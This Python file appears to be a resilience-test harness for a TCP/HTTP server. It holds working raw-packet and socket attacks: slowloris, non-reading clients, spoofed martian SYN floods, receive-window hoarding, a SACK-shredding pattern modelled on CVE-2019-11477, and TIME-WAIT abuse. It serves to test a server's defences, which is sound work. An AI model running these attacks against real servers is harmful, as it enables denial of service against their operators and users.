#!/usr/bin/env python3
"""Hostile TCP peers, one per subcommand, for scripts/attack.sh and tests/interop_hostile.rs
(which runs this file's text with `python3 -c`, so it imports nothing of its own). Every
attack is bounded in connections, packets and seconds; each prints `ready` once its hostile
state is in place, and one JSON object as its last line.

    hostile.py slowloris N HOST PORT RUN_SECS
    hostile.py noread    N HOST PORT BYTES RUN_SECS
    hostile.py martians  IFACE SRC_MAC DST_MAC CLIENT4 SERVER4 CLIENT6 SERVER6 PORT [SECS RATE]
    hostile.py hoard     N SRC HOST PORT RUN_SECS
    hostile.py shred     N SRC HOST PORT RUN_SECS RATE
    hostile.py twecho    N SRC HOST PORT RUN_SECS RATE

slowloris: N kernel connections, each sending the start of a request head and then one byte
a second; per connection, the seconds to the server's close (EOF or reset) from `connect()`
and from when the client saw the connection open (the handshake completed between the two).
At most CONNECTING handshakes are under way at once: a burst of thousands of SYNs overflows
a veth's 256-frame ring, and a third ACK lost there delays that connection's start by a
second (the SYN-ACK's retransmission).
noread: N kernel keep-alive connections each writing up to BYTES of pipelined `GET /` and
never reading a response: the server's replies fill its send buffer, then its receive buffer.
martians: SYNs in raw frames from the client's veth, from a broadcast or multicast source
MAC or a martian source address (loopback, unspecified, multicast, broadcast, the server's
own, v4-mapped), each from its own source port; with SECS and RATE, a flood of them at RATE
frames a second for SECS first. Then each once more, and one legit SYN (from the client,
port 50000, whose SYN-ACK shows the capture works), and what comes back in 1.5 s.
hoard, shred, twecho: raw TCP from address SRC of the client namespace (its kernel's RSTs
for these connections must be dropped: iptables in that namespace, except those marked 0x1d,
ours), N handshakes each.
hoard: every connection fills the server's receive window with data past a 1-byte hole,
never filled. shred: every connection sends pipelined `GET /`s, ACKs none of the answers and
sends duplicate ACKs at SND.UNA, each with four 1-byte SACK blocks inside what the server has
sent, RATE a second in all (CVE-2019-11477's pattern). twecho: every connection is closed
by the server first (`Connection: close`), so the server holds it in TIME-WAIT; then old SYNs
and retransmitted FINs at those tuples, RATE a second in all, and the server's replies counted.
"""
import heapq
import itertools
import json
import random
import resource
import select
import selectors
import signal
import socket
import struct
import sys
import time


def ready():
    print("ready", flush=True)


# SIGTERM ends an attack early, as if its time were up: it still reports (attack.sh stops it
# once it has measured).
STOPPED = []
signal.signal(signal.SIGTERM, lambda *_: STOPPED.append(True))


def running(start, run):
    return not STOPPED and time.monotonic() - start < run


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 64), hard))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


# slowloris: the most handshakes under way at once (below a veth ring's 256 frames).
CONNECTING = 128


def slowloris(n, host, port, run):
    n, port, run = int(n), int(port), float(run)
    raise_nofile(n)
    sel = selectors.DefaultSelector()
    head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
    state = {}
    start = time.monotonic()
    started = 0

    def connect_more():
        nonlocal started
        while started < n and started - opened - failed < CONNECTING:
            s = socket.socket()
            s.setblocking(False)
            connect_at = time.monotonic()
            s.connect_ex((host, port))
            sel.register(s, selectors.EVENT_WRITE)
            state[s] = {"connect": connect_at, "opened": None, "next": None, "sent": 0}
            started += 1

    closes, failed, resets, opened = 0, 0, 0, 0
    connect_more()
    earliest, latest = float("inf"), 0.0
    # (when its next byte is due, tie-breaker, connection): a pass touches only those due.
    due, order = [], itertools.count()

    def closed(s, how):
        nonlocal resets, closes, earliest, latest
        st = state.pop(s)
        sel.unregister(s)
        s.close()
        if how == "reset":
            resets += 1
        now = time.monotonic()
        closes += 1
        earliest = min(earliest, now - st["connect"])
        latest = max(latest, now - st["opened"])

    while running(start, run) and (state or started < n):
        connect_more()
        for key, _ in sel.select(timeout=0.02):
            s = key.fileobj
            st = state.get(s)
            if st is None:
                continue
            if st["opened"] is None:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    failed += 1
                    state.pop(s)
                    sel.unregister(s)
                    s.close()
                    if opened + failed == n:
                        ready()
                    continue
                st["opened"] = time.monotonic()
                st["next"] = st["opened"]
                heapq.heappush(due, (st["next"], next(order), s))
                opened += 1
                if opened + failed == n:
                    ready()
                sel.modify(s, selectors.EVENT_READ)
                continue
            try:
                data = s.recv(4096)
            except ConnectionResetError:
                closed(s, "reset")
                continue
            if not data:
                closed(s, "eof")
            else:
                raise SystemExit("the server answered a dribbler: %r" % data[:80])
        now = time.monotonic()
        while due and now >= due[0][0]:
            s = heapq.heappop(due)[2]
            st = state.get(s)
            if st is None:
                continue
            byte = head[st["sent"]:st["sent"] + 1] or b"a"
            try:
                s.send(byte)
            except (BrokenPipeError, ConnectionResetError):
                closed(s, "reset")
                continue
            st["sent"] += 1
            st["next"] += 1.0
            heapq.heappush(due, (st["next"], next(order), s))
    still_open = sum(1 for st in state.values() if st["opened"] is not None)
    for s in state:
        s.close()
    print(json.dumps({"opened": n - failed, "failed": failed, "still_open": still_open,
                      "closed": closes, "resets": resets, "earliest": earliest,
                      "latest": latest}))


def noread(n, host, port, limit, run):
    n, port, limit, run = int(n), int(port), int(limit), float(run)
    raise_nofile(n)
    requests = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 2048
    socks = []
    for _ in range(n):
        s = socket.socket()
        # A small receive window: the server's answers back up in the server, not here.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(10)
        s.connect((host, port))
        socks.append(s)
    sel = selectors.DefaultSelector()
    sent, last = [0] * n, [time.monotonic()] * n
    for i, s in enumerate(socks):
        s.setblocking(False)
        sel.register(s, selectors.EVENT_WRITE, i)
    start = time.monotonic()

    def stalled():
        # Connections that have taken no request for half a second (or hit the limit).
        now = time.monotonic()
        return sum(now - t > 0.5 or k >= limit for t, k in zip(last, sent))

    said_ready = False
    while running(start, run):
        for key, _ in sel.select(0.1):
            i = key.data
            try:
                sent[i] += socks[i].send(requests[sent[i] % 27:][:limit - sent[i]])
                last[i] = time.monotonic()
            except BlockingIOError:
                pass
            except (BrokenPipeError, ConnectionResetError):
                sel.unregister(socks[i])
                continue
            if sent[i] >= limit:
                sel.unregister(socks[i])
        # Ready once every connection's writes have stalled (the server stopped taking its
        # requests), or after 5 s.
        if not said_ready and (stalled() == n or time.monotonic() - start > 5):
            said_ready = True
            ready()
    print(json.dumps({"connections": n, "bytes_written": sum(sent), "stalled": stalled()}))
    for s in socks:
        s.close()


def martians(iface, src_mac, dst_mac, c4, s4, c6, s6, port, secs="0", rate="0"):
    port, secs, rate = int(port), float(secs), float(rate)
    mac = lambda m: bytes.fromhex(m.replace(":", ""))

    def tcp_syn(sport, pseudo):
        hdr = struct.pack("!HHIIBBHHH", sport, port, 1000, 0, 5 << 4, 0x02, 64240, 0, 0)
        c = csum(pseudo + hdr)
        return hdr[:16] + struct.pack("!H", c) + hdr[18:]

    def v4(src, dst, sport):
        s, d = socket.inet_pton(socket.AF_INET, src), socket.inet_pton(socket.AF_INET, dst)
        tcp = tcp_syn(sport, s + d + struct.pack("!BBH", 0, 6, 20))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, s, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        return struct.pack("!H", 0x0800), ip + tcp

    def v6(src, dst, sport):
        s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
        tcp = tcp_syn(sport, s + d + struct.pack("!IxxxB", 20, 6))
        ip = struct.pack("!IHBB16s16s", 6 << 28, 20, 6, 64, s, d)
        return struct.pack("!H", 0x86DD), ip + tcp

    probes = [
        ("ff:ff:ff:ff:ff:ff", v4(c4, s4, 50001)),
        ("01:00:5e:00:00:01", v4(c4, s4, 50002)),
        (src_mac, v4("127.0.0.1", s4, 50003)),
        (src_mac, v4("0.0.0.0", s4, 50004)),
        (src_mac, v4("224.0.0.5", s4, 50005)),
        (src_mac, v4("255.255.255.255", s4, 50006)),
        (src_mac, v4(s4, s4, 50007)),
        (src_mac, v6("::1", s6, 50008)),
        (src_mac, v6("::ffff:" + c4, s6, 50009)),
        (src_mac, v6("ff02::1", s6, 50010)),
        (src_mac, v6(s6, s6, 50011)),
    ]
    frames = [mac(dst_mac) + mac(src) + ethertype + packet for src, (ethertype, packet) in probes]
    legit = (src_mac, v4(c4, s4, 50000))
    flooded = 0
    if secs > 0:
        # Protocol 0: this socket only sends (it would otherwise queue every frame it saw).
        raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        raw.bind((iface, 0))
        ready()
        start = time.monotonic()
        while running(start, secs):
            # Paced in bursts of one round of probes: at most RATE frames a second.
            for f in frames:
                raw.send(f)
            flooded += len(frames)
            ahead = flooded / rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
        # Let what the flood drew drain before the capture below.
        time.sleep(0.2)
    capture = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    capture.bind((iface, 0))
    capture.settimeout(0.05)
    for f in frames + [mac(dst_mac) + mac(legit[0]) + legit[1][0] + legit[1][1]]:
        capture.send(f)
    answered = []
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        try:
            f = capture.recv(65535)
        except socket.timeout:
            continue
        if f[6:12] != mac(dst_mac):
            continue  # not from the server
        ethertype = struct.unpack("!H", f[12:14])[0]
        if ethertype == 0x0800 and f[23] == 6:
            tcp = f[14 + (f[14] & 0x0F) * 4:]
        elif ethertype == 0x86DD and f[20] == 6:
            tcp = f[54:]
        else:
            continue
        sport, dport = struct.unpack("!HH", tcp[:4])
        if sport == port:
            answered.append(dport)
    print(json.dumps({"probes": len(probes), "flooded": flooded,
                      "answered": sorted(set(answered))}))


SYN, FIN, RST, PSH, ACK = 0x02, 0x01, 0x04, 0x08, 0x10
# The raw attackers' SYN options: MSS 1460, SACK permitted, window scale 7 (no timestamps,
# so four SACK blocks fit in an ACK).
SYN_OPTIONS = struct.pack("!BBHBBBBBBBB", 2, 4, 1460, 1, 3, 3, 7, 1, 1, 4, 2)


# The firewall mark of the raw attackers' segments (attack.sh's iptables rule lets these RSTs
# through).
RAW_MARK = 0x1D


class Raw:
    """Raw TCP from `src` to `host:port`: one raw socket for every connection (bound to
    `src` and connected to `host`, so the kernel hands it only those segments), segments
    built by hand. Connections are keyed by their source port."""

    def __init__(self, src, host, port, first_port):
        self.src, self.host, self.port = src, host, int(port)
        self.pseudo = socket.inet_aton(src) + socket.inet_aton(host)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.sock.bind((src, 0))
        self.sock.connect((host, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        # Our own RSTs carry this mark past the namespace's rule that drops its kernel's.
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, RAW_MARK)
        self.sock.setblocking(False)
        self.first_port = first_port
        self.conns = {}
        self.sent = 0
        self.received = 0

    def send(self, c, flags, payload=b"", seq=None, options=b""):
        off = (20 + len(options)) // 4
        hdr = struct.pack("!HHIIBBHHH", c["sport"], self.port,
                          (c["snd_nxt"] if seq is None else seq) & 0xFFFFFFFF,
                          c["rcv_nxt"] & 0xFFFFFFFF if flags & ACK else 0, off << 4, flags,
                          65535, 0, 0) + options
        length = len(hdr) + len(payload)
        check = csum(self.pseudo + struct.pack("!BBH", 0, 6, length) + hdr + payload)
        self.sock.send(hdr[:16] + struct.pack("!H", check) + hdr[18:] + payload)
        self.sent += 1

    def recv(self, block=True):
        """The next segment for one of our connections: (conn, seq, ack, flags, window,
        payload length, options), or None: after a 20 ms lull, or at once with `block` off."""
        while True:
            try:
                p = self.sock.recv(65535)
            except BlockingIOError:
                if not block or not select.select([self.sock], [], [], 0.02)[0]:
                    return None
                block = False
                continue
            ihl = (p[0] & 0x0F) * 4
            tcp = p[ihl:]
            sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", tcp[:16])
            c = self.conns.get(dport)
            if sport != self.port or c is None:
                continue
            self.received += 1
            hl = (off >> 4) * 4
            return c, seq, ack, flags, win, len(tcp) - hl, tcp[20:hl]

    def connect(self, n, limit=10.0):
        """N handshakes at once; returns how many completed within `limit` seconds."""
        for i in range(n):
            iss = random.getrandbits(32)
            c = {"sport": self.first_port + i, "iss": iss, "snd_nxt": iss, "rcv_nxt": 0,
                 "open": False, "wscale": 0, "window": 0, "snd_max": 0}
            self.conns[c["sport"]] = c
            self.send(c, SYN, options=SYN_OPTIONS)
            c["snd_nxt"] = (iss + 1) & 0xFFFFFFFF
        opened, end = 0, time.monotonic() + limit
        while opened < n and time.monotonic() < end:
            got = self.recv()
            if not got:
                continue
            c, seq, ack, flags, win, _, opts = got
            if flags & (SYN | ACK) == SYN | ACK and not c["open"]:
                c["open"] = True
                c["irs"] = seq
                c["rcv_nxt"] = (seq + 1) & 0xFFFFFFFF
                c["snd_max"] = c["rcv_nxt"]
                c["window"] = win
                c["wscale"] = window_scale(opts)
                self.send(c, ACK)
                opened += 1
        return opened

    def reset_all(self):
        for c in self.conns.values():
            if c["open"]:
                self.send(c, RST)


def window_scale(opts):
    i = 0
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2:
            break
        if kind == 3 and opts[i + 1] == 3:
            return min(opts[i + 2], 14)
        i += opts[i + 1]
    return 0


def hoard(n, src, host, port, run):
    """Out-of-order data past a 1-byte hole, up to each server's window (at most 1 MiB a
    connection), topped up as the server's ACKs open the window further."""
    n, run = int(n), float(run)
    t = Raw(src, host, port, 20000)
    start = time.monotonic()
    opened = t.connect(n)
    payload = b"x" * 1400
    for c in t.conns.values():
        # The hole: the first byte of the stream is never sent.
        c["ooo"] = 1
        c["edge"] = c["window"]
    hoarded, said_ready = 0, False

    def fill(c):
        nonlocal hoarded
        while c["open"] and c["ooo"] + len(payload) <= min(c["edge"], 1 << 20):
            t.send(c, ACK | PSH, payload, seq=c["snd_nxt"] + c["ooo"])
            c["ooo"] += len(payload)
            hoarded += len(payload)

    for c in t.conns.values():
        fill(c)
    while running(start, run):
        if not said_ready and time.monotonic() - start > 1:
            said_ready = True
            ready()
        got = t.recv()
        if not got:
            continue
        c, seq, ack, flags, win, _, _ = got
        if flags & (RST | FIN):
            c["open"] = False
            continue
        if ack == c["snd_nxt"]:
            c["edge"] = max(c["edge"], win << c["wscale"])
            fill(c)
    held = sum(c["open"] for c in t.conns.values())
    # Leave the server clean for the next attack: the hole's byte is RCV.NXT, an exact RST.
    t.reset_all()
    print(json.dumps({"connections": n, "opened": opened, "held": held,
                      "hoarded_bytes": hoarded, "segments_sent": t.sent,
                      "segments_received": t.received}))


def shred(n, src, host, port, run, rate):
    """Duplicate ACKs at SND.UNA with four 1-byte SACK blocks each, inside what the server
    has sent (it sends its initial window of answers and then retransmits; nothing is ever
    ACKed), RATE a second over all connections."""
    n, run, rate = int(n), float(run), float(rate)
    t = Raw(src, host, port, 24000)
    start = time.monotonic()
    opened = t.connect(n)
    requests = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 50
    for c in t.conns.values():
        if c["open"]:
            for _ in range(20):
                t.send(c, ACK | PSH, requests)
                c["snd_nxt"] = (c["snd_nxt"] + len(requests)) & 0xFFFFFFFF
    conns = [c for c in t.conns.values() if c["open"]]
    rnd = random.Random(11)
    shreds, said_ready, i = 0, False, 0
    while running(start, run) and conns:
        got = t.recv(block=False) if i % 16 == 0 else None
        while got:
            c, seq, ack, flags, win, length, _ = got
            if flags & RST:
                c["open"] = False
            end = (seq + length - c["rcv_nxt"]) & 0xFFFFFFFF
            if end < 1 << 30:
                c["snd_max"] = max(c["snd_max"], c["rcv_nxt"] + end)
            got = t.recv(block=False)
        conns = [c for c in conns if c["open"]]
        if not conns:
            break
        if not said_ready:
            said_ready = True
            ready()
        c = conns[i % len(conns)]
        i += 1
        span = c["snd_max"] - c["rcv_nxt"]
        if span < 16:
            time.sleep(0.001)
            continue
        blocks = b""
        for _ in range(4):
            left = c["rcv_nxt"] + 1 + 2 * rnd.randrange((span - 2) // 2)
            blocks += struct.pack("!II", left & 0xFFFFFFFF, (left + 1) & 0xFFFFFFFF)
        t.send(c, ACK, options=struct.pack("!BBBB", 1, 1, 5, 34) + blocks)
        shreds += 1
        ahead = shreds / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    held = sum(c["open"] for c in t.conns.values())
    t.reset_all()
    print(json.dumps({"connections": n, "opened": opened, "held": held,
                      "shredding_acks": shreds, "segments_sent": t.sent,
                      "segments_received": t.received,
                      "server_bytes_in_flight": sum(c["snd_max"] - c["rcv_nxt"]
                                                    for c in t.conns.values() if "irs" in c)}))


def twecho(n, src, host, port, run, rate):
    """Connections the server closes first (so it holds their tuples in TIME-WAIT), then
    old SYNs (below RCV.NXT, so not a new incarnation) and retransmitted FINs at them."""
    n, run, rate = int(n), float(run), float(rate)
    t = Raw(src, host, port, 26000)
    start = time.monotonic()
    opened = t.connect(n)
    request = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    for c in t.conns.values():
        if c["open"]:
            t.send(c, ACK | PSH, request)
            c["snd_nxt"] = (c["snd_nxt"] + len(request)) & 0xFFFFFFFF
    # The server answers and closes: ACK its data and FIN, send ours (it then holds
    # TIME-WAIT), and wait for its ACK of our FIN.
    closing, end = 0, time.monotonic() + 10
    while closing < opened and time.monotonic() < end:
        got = t.recv()
        if not got:
            continue
        c, seq, ack, flags, win, length, _ = got
        if flags & FIN and not c.get("fin_seen"):
            c["fin_seen"] = True
            c["rcv_nxt"] = (seq + length + 1) & 0xFFFFFFFF
            t.send(c, ACK | FIN)
            c["fin_seq"] = c["snd_nxt"]
            c["snd_nxt"] = (c["snd_nxt"] + 1) & 0xFFFFFFFF
            closing += 1
    time.sleep(0.2)
    while t.recv() is not None:
        pass
    tw = [c for c in t.conns.values() if c.get("fin_seen")]
    replies_before = t.received
    echoes, i = 0, 0
    ready()
    echo_start = time.monotonic()
    while running(start, run) and tw:
        c = tw[i % len(tw)]
        if i % 2 == 0:
            t.send(c, SYN, seq=c["iss"], options=SYN_OPTIONS)
        else:
            t.send(c, ACK | FIN, seq=c["fin_seq"])
        i += 1
        echoes += 1
        while t.recv(block=False):
            pass
        ahead = echoes / rate - (time.monotonic() - echo_start)
        if ahead > 0:
            time.sleep(ahead)
    end = time.monotonic() + 0.2
    while time.monotonic() < end:
        t.recv()
    print(json.dumps({"connections": n, "opened": opened, "time_wait": len(tw),
                      "echoes": echoes, "replies": t.received - replies_before}))


if __name__ == "__main__":
    attacks = {"slowloris": slowloris, "noread": noread, "martians": martians,
               "hoard": hoard, "shred": shred, "twecho": twecho}
    if len(sys.argv) < 2 or sys.argv[1] not in attacks:
        sys.exit("usage: hostile.py " + "|".join(attacks) + " ARGS... (see its docstring)")
    attacks[sys.argv[1]](*sys.argv[2:])
